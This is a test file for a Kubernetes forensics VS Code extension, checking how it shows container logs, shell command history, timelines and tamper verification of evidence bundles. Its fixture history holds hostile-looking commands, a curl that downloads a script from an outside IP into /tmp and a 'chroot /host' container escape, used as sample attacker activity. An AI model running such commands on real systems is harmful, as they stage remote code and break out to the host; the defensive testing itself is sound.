import { test } from 'node:test';
import assert from 'node:assert/strict';
import { openBundle } from '../../src/core/evidence/reader.js';
import { showCommandHistory, showLogs } from '../../src/commands/showEvidence.js';
import { showInTimeline } from '../../src/commands/showInTimeline.js';
import { filterTree } from '../../src/commands/filterTree.js';
import { openTimeline } from '../../src/commands/openTimeline.js';
import { openEvidenceBundle } from '../../src/commands/openBundle.js';
import { verifyEvidenceBundle } from '../../src/commands/verifyBundle.js';
import { parseEvidenceQuery, renderEvidence } from '../../src/host/evidenceDocuments.js';
import { emptyFilter } from '../../src/core/timeline/filter.js';
import { appendFile } from 'node:fs/promises';
import { join } from 'node:path';
import { tableFile } from '../../src/core/evidence/manifest.js';
import { containerLogs } from '../../src/core/schema/tables.js';
import { MALICIOUS, writeFixtureBundle } from '../extension/bundleFixture.js';
import { runCommand, testContext } from '../extension/fakes.js';
import { CMD } from '../../src/host/ids.js';

const container = { kind: 'container', namespace: 'prod-web', pod: 'web-frontend-7d9f8b6c5d-x2k9p', container: 'nginx' } as const;

/** What VS Code does with the URI: parse it, hand the decoded query to the provider. */
function decodedQuery(uri: string): string {
  return decodeURIComponent(new URL(uri).search.slice(1));
}

test('Show Logs opens the container\'s collected lines, previous instance first, attacker text verbatim', async () => {
  const { dir, manifest } = await writeFixtureBundle();
  const cc = testContext();
  await cc.state.setBundle({ dir, manifest });
  const uri = await showLogs(cc, container);
  assert.deepEqual(cc.ui.opened, [uri]);
  assert.match(uri!, /^kubeforensys:\/prod-web\/web-frontend-7d9f8b6c5d-x2k9p\/nginx\.log\?/);
  const ref = parseEvidenceQuery(decodedQuery(uri!));
  assert.deepEqual(ref, { kind: 'logs', bundleDir: dir, namespace: 'prod-web', pod: 'web-frontend-7d9f8b6c5d-x2k9p', container: 'nginx' });
  const text = await renderEvidence(await openBundle(dir), ref!);
  const lines = text.split('\n');
  assert.match(lines[0]!, /^# Container log of prod-web\/web-frontend-7d9f8b6c5d-x2k9p\/nginx from snapshot /);
  assert.deepEqual(lines.slice(1, 6), [
    '# ---- previous instance: 1 lines ----',
    '2026-11-27T01:31:00.0000000Z booting',
    '# ---- current instance: 2 lines ----',
    '2026-11-27T01:31:00.0000000Z 10.0.0.1 GET / 200',
    `2026-11-27T01:32:00.0000000Z ${MALICIOUS}`,
  ]);
});

test('Show Command History lists each history file in order with its times', async () => {
  const { dir, manifest } = await writeFixtureBundle();
  const cc = testContext();
  await cc.state.setBundle({ dir, manifest });
  const uri = await showCommandHistory(cc, container);
  const text = await renderEvidence(await openBundle(dir), parseEvidenceQuery(decodedQuery(uri!))!);
  assert.deepEqual(text.split('\n').slice(1, 4), [
    '# ---- /root/.bash_history (bash, user root, times from bash-timestamp) ----',
    '2026-11-27T01:39:00.0000000Z id',
    '2026-11-27T01:40:00.0000000Z curl -sL http://203.0.113.7/x.sh -o /tmp/x.sh',
  ]);
});

test('a forged kubeforensys: address is refused', () => {
  assert.equal(parseEvidenceQuery('{"k":"exec","b":"/","n":"a","p":"b","c":"c"}'), undefined);
  assert.equal(parseEvidenceQuery('{"k":"logs","b":1}'), undefined);
  assert.equal(parseEvidenceQuery('not json'), undefined);
});

test('Show in Timeline on a container opens the bundle\'s timeline filtered to that container', async () => {
  const { dir, manifest } = await writeFixtureBundle();
  const cc = testContext();
  await cc.state.setBundle({ dir, manifest });
  await showInTimeline(cc, container);
  assert.deepEqual(cc.timeline.opened, [
    { source: { kind: 'local', bundleDir: dir }, filter: { ...emptyFilter(), containers: [{ namespace: 'prod-web', pod: 'web-frontend-7d9f8b6c5d-x2k9p', container: 'nginx' }] } },
  ]);
  await showInTimeline(cc, { kind: 'resource', resource: { kind: 'Pod', namespace: 'default', name: 'node-debugger', isPod: true, findings: [], containers: [] } });
  assert.deepEqual(cc.timeline.opened[1]!.filter, { ...emptyFilter(), pods: [{ namespace: 'default', pod: 'node-debugger' }] });
});

test('tree commands called without a tree item (e.g. from a keybinding) explain instead of failing', async () => {
  const cc = testContext();
  assert.equal(await runCommand(cc, CMD.showLogs, undefined), undefined);
  assert.equal(await runCommand(cc, CMD.showInTimeline, { kind: 'artifactChoice', artifact: 'events' }), undefined);
  assert.equal(cc.ui.shown.length, 2);
  assert.ok(cc.ui.shown.every((s) => s.level === 'warning'));
  assert.deepEqual(cc.timeline.opened, []);
});

test('Filter… keeps the chosen severities; ticking all means no filter', async () => {
  const cc = testContext();
  cc.ui.pick = (items) => items.filter((i) => i.label === 'high' || i.label === 'medium');
  assert.deepEqual(await filterTree(cc), ['high', 'medium']);
  assert.deepEqual(cc.state.treeSeverities, ['high', 'medium']);
  cc.ui.pick = (items) => [...items];
  assert.deepEqual(await filterTree(cc), []);
  assert.deepEqual(cc.state.treeSeverities, []);
});

test('Open Evidence Bundle fills the tree; Open Timeline then uses it; a folder that is not a bundle is refused', async () => {
  const { dir } = await writeFixtureBundle();
  const cc = testContext();
  cc.ui.folder = '/tmp';
  assert.equal(await openEvidenceBundle(cc), undefined);
  assert.match(cc.ui.shown[0]!.message, /is not an evidence bundle/);
  cc.ui.folder = dir;
  assert.equal(await openEvidenceBundle(cc), dir);
  assert.equal(cc.state.bundle?.manifest.cluster.context, 'aks-prod-weu');
  await openTimeline(cc);
  assert.deepEqual(cc.timeline.opened, [{ source: { kind: 'local', bundleDir: dir }, filter: undefined }]);
});

test('Verify names a tampered file', async () => {
  const { dir, manifest } = await writeFixtureBundle();
  const cc = testContext();
  await cc.state.setBundle({ dir, manifest });
  assert.equal((await verifyEvidenceBundle(cc))?.ok, true);
  assert.match(cc.ui.shown[0]!.message, /bundle verified: \d+ files match/);
  await appendFile(join(dir, tableFile(containerLogs.name)), '{"forged":true}\n');
  const report = await verifyEvidenceBundle(cc);
  assert.equal(report?.ok, false);
  assert.equal(cc.ui.shown[1]!.level, 'error');
  assert.match(cc.ui.shown[1]!.message, new RegExp(`does NOT verify: modified ${tableFile(containerLogs.name)}`));
});

test('the history document names only what is known: no blank "( , user , times from none)" header, status rows as comments', async () => {
  const { dir, manifest } = await writeFixtureBundle();
  const ref = { kind: 'history', bundleDir: dir, namespace: 'default', pod: 'node-debugger', container: 'node-debugger' } as const;
  const at = { Namespace: 'default', PodName: 'node-debugger', ContainerName: 'node-debugger' };
  const rows = [
    { ...at, EventType: 'HistoryStatus', EventTime: '2026-11-27T02:00:00.0000000Z', Command: '', HistoryFile: '', Shell: '', User: '', LineNumber: null, TimeSource: 'none', CollectionStatus: 'ok', StatusMessage: '' },
    { ...at, EventType: 'Command', EventTime: '', Command: 'chroot /host', HistoryFile: '/root/.ash_history', Shell: 'ash', User: 'root', LineNumber: 1, TimeSource: 'none', CollectionStatus: 'ok', StatusMessage: '' },
  ];
  const bundle = {
    manifest,
    readTable: async function* (table: string) {
      if (table === 'commandhistory_CL') yield* rows;
    },
  } as unknown as Parameters<typeof renderEvidence>[0];
  const lines = (await renderEvidence(bundle, ref)).split('\n');
  assert.deepEqual(lines.slice(1, 4), ['# container: ok', '# ---- /root/.ash_history (ash, user root, no times recorded) ----', 'chroot /host']);
  assert.ok(!lines.some((l) => /\(\s*,|user ,|times from none/.test(l)), lines.join('\n'));
});

test('Show in Timeline on a finding opens everything ±30 min around it with the finding\'s row selected', async () => {
  const { dir, manifest } = await writeFixtureBundle();
  const cc = testContext();
  await cc.state.setBundle({ dir, manifest });
  const findings = await cc.core.loadFindings(dir);
  const f = findings.resources.find((r) => r.name === 'node-debugger')!.findings.find((x) => x.title === 'Privileged container')!;
  assert.ok(f.time, 'the finding has a time');
  await showInTimeline(cc, { kind: 'finding', finding: f, parentId: 'p' });
  const opened = cc.timeline.opened[0]!;
  assert.equal(opened.select, f.recordId);
  const at = Date.parse(f.time.slice(0, 23) + 'Z');
  assert.equal(Date.parse(opened.filter!.from!.slice(0, 23) + 'Z'), at - 30 * 60_000);
  assert.equal(Date.parse(opened.filter!.to!.slice(0, 23) + 'Z'), at + 30 * 60_000);
  assert.deepEqual([opened.filter!.pods, opened.filter!.containers], [[], []], 'not narrowed to the pod: what led to the finding is elsewhere');
  assert.equal(opened.filter!.hideBaseline, true);
});
